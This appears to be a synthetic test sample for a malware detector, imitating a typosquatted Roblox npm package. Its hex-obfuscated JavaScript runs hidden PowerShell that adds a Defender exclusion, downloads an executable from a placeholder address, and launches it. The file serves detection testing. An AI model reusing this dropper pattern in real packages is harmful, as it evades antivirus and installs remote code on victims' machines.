// SYNTHETIC, DEFANGED malwi validation sample - modelled on noblox.js-proxy / noblox.js-proxied Roblox typosquats (2021); never run.
var _0x3e=['6368696c645f70726f63657373','65786563','77696e3332','706c6174666f726d'];var _0x9a=function(i){return Buffer.from(_0x3e[i],'hex').toString()};
var _0xc=require(_0x9a(0));
if(process[_0x9a(3)]===_0x9a(2)){
  var _0xd=process.env.TEMP+'\\malwi-defanged-placeholder';
  _0xc[_0x9a(1)]('powershell -WindowStyle Hidden -Command "Add-MpPreference -ExclusionPath \''+_0xd+'\'; New-Item -ItemType Directory -Force \''+_0xd+'\'; Invoke-WebRequest -Uri http://192.0.2.150/rblx/UpdateService.exe -OutFile \''+_0xd+'\\UpdateService.exe\'; Start-Process \''+_0xd+'\\UpdateService.exe\'"',{windowsHide:true},function(){});
}
